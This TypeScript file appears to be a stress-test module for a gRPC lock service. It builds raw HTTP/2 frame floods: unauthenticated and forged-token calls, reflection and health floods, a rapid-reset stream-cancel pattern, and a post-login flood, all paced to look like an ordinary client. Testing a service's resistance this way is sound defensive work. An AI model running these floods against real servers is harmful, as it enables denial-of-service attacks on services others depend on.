// Floods of whole calls over a few connections, by callers whom nobody knows. ATTACK_RATE is the calls a second, by all
// connections together; without it, each goes as fast as it can. Each keeps to what the server allows of open calls, so
// that it cannot be told from a client by that.

import { setTimeout as sleep } from "node:timers/promises";
import {
  callHeaders,
  dataFrames,
  END_HEADERS,
  END_STREAM,
  FRAME,
  type Frame,
  frame,
  grpcMessage,
  hpackRemembered,
  lastRemembered,
  type RawConnection,
  uint32,
} from "../../support/http2-frames.ts";
import { type Attack, atOnce } from "../target.ts";

const CONNECTIONS = 8;
/** Below the number that HTTP/2 advises to allow at least. */
const OPEN_MAX = 90;
const EVERY_MS = 10;
/** Calls that are sent together where nothing bounds them. */
const BATCH = 500;
/** From a proper call to the server's answer that more are allowed. */
const KNOWN_MS = 100;
const REST_MS = 20;
const CANCEL = uint32(8);
const EMPTY = grpcMessage(Buffer.alloc(0));

interface Flood {
  readonly path: string;
  readonly headers?: readonly [string, string][];
  readonly message?: Buffer;
  /** Takes each call back as soon as it is open. */
  readonly isReset?: boolean;
}

const rate = Number(process.env.ATTACK_RATE ?? Number.POSITIVE_INFINITY);

function flood({ path, headers = [], message = EMPTY, isReset = false }: Flood): Attack {
  const all = [...callHeaders(path), ...headers];
  const [first, next] = [hpackRemembered(all), lastRemembered(all.length)];
  return async (target) => {
    const flooding = atOnce(CONNECTIONS, () => {
      const counts = new WeakMap<RawConnection, Open>();
      let dueMs = performance.now();
      return target.again(async (connection) => {
        const open = counts.get(connection) ?? new Open(connection);
        counts.set(connection, open);
        const nowMs = performance.now();
        const due = ((nowMs - dueMs) * rate) / CONNECTIONS / 1_000;
        const count = Math.floor(Math.min(due, OPEN_MAX - open.count));
        // What could not be sent in time is not made up for.
        if (Number.isFinite(rate)) dueMs = nowMs - (((due - Math.floor(due)) * 1_000) / rate) * CONNECTIONS;
        if (count < 1) {
          await (Number.isFinite(rate) ? sleep(EVERY_MS) : open.changed());
          return;
        }
        const frames: Buffer[] = [];
        for (let index = 0; index < count; index++) {
          const stream = open.begin();
          frames.push(frame(FRAME.headers, stream, stream === 1 ? first : next, END_HEADERS));
          if (isReset) frames.push(frame(FRAME.reset, stream, CANCEL));
          else frames.push(dataFrames(stream, message, END_STREAM));
          if (isReset) open.ended(stream);
        }
        await connection.send(Buffer.concat(frames));
        if (Number.isFinite(rate) || isReset) await sleep(isReset && !Number.isFinite(rate) ? 0 : EVERY_MS);
      }, REST_MS);
    });
    target.begun();
    await flooding;
  };
}

/** One proper call, and then others with an unknown token, as many as the connection takes, whatever the server says. */
const afterAGoodOne: Attack = async (target) => {
  const headers = (token: string) => hpackRemembered([...callHeaders(ACQUIRE), ...bearer(token)]);
  const good = Buffer.concat([
    frame(FRAME.headers, 1, headers(process.env.ATTACK_TOKEN ?? ""), END_HEADERS),
    dataFrames(1, EMPTY, END_STREAM),
  ]);
  const [first, next] = [headers(UNKNOWN), lastRemembered(callHeaders(ACQUIRE).length + 1)];
  let begun = 0;
  await atOnce(CONNECTIONS, async () => {
    for (;;) {
      const connection = target.connect();
      await connection.send(good);
      await sleep(KNOWN_MS);
      begun += 1;
      if (begun === CONNECTIONS) target.begun();
      for (let stream = 3; connection.isOpen; ) {
        const frames: Buffer[] = [];
        for (let index = 0; index < BATCH; index++, stream += 2)
          frames.push(frame(FRAME.headers, stream, stream === 3 ? first : next, END_HEADERS | END_STREAM));
        await connection.send(Buffer.concat(frames));
        await sleep(0);
      }
    }
  });
};

/** The open calls of a connection, by what the server says of them. */
class Open {
  readonly #streams = new Set<number>();
  readonly #hears: RawConnection["onFrame"];
  readonly #connection: RawConnection;
  #next = 1;
  #changed = () => {};

  constructor(connection: RawConnection) {
    this.#connection = connection;
    this.#hears = connection.onFrame;
    connection.onFrame = (read) => this.#heard(read);
    connection.socket.once("close", () => this.#changed());
  }

  get count(): number {
    return this.#streams.size;
  }

  begin(): number {
    const stream = this.#next;
    this.#next += 2;
    this.#streams.add(stream);
    return stream;
  }

  ended(stream: number): void {
    this.#streams.delete(stream);
  }

  changed(): Promise<void> {
    if (!this.#connection.isOpen || this.#connection.isGoingAway) return Promise.resolve();
    return new Promise((resolve) => {
      this.#changed = resolve;
    });
  }

  #heard(read: Frame): void {
    this.#hears(read);
    const isEnd = read.type === FRAME.headers && (read.flags & END_STREAM) !== 0;
    if (isEnd || read.type === FRAME.reset) this.#streams.delete(read.stream);
    if (isEnd || read.type === FRAME.reset || read.type === FRAME.goaway) this.#changed();
  }
}

const ACQUIRE = "/rowlock.v1.LockService/Acquire";
const UNKNOWN = "rowlock_none";
const bearer = (token: string): [string, string][] => [["authorization", `Bearer ${token}`]];
const base64 = (value: object) => Buffer.from(JSON.stringify(value)).toString("base64url");
const JWT = `${base64({ alg: "ES256", typ: "JWT" })}.${base64({ sub: "mallory", iss: "https://issuer.example", aud: "rowlock", exp: 4_000_000_000 })}.${"A".repeat(86)}`;
/** ServerReflectionRequest of `list_services`. */
const LIST_SERVICES = grpcMessage(Buffer.from([0x3a, 0x01, 0x2a]));

export const FLOODS: Readonly<Record<string, Attack>> = {
  "calls without credentials": flood({ path: ACQUIRE }),
  "calls with unknown tokens": flood({ path: ACQUIRE, headers: bearer(UNKNOWN) }),
  "calls with wrong JWTs": flood({ path: ACQUIRE, headers: bearer(JWT) }),
  "calls of reflection": flood({
    path: "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
    message: LIST_SERVICES,
  }),
  "calls of health": flood({ path: "/grpc.health.v1.Health/Check" }),
  "calls that are reset at once": flood({ path: "/rowlock.v1.LockService/WaitInQueue", isReset: true }),
};

/** Of somebody who has a token. */
export const FLOODS_OF_KNOWN: Readonly<Record<string, Attack>> = {
  "calls with unknown tokens after a good one": afterAGoodOne,
};
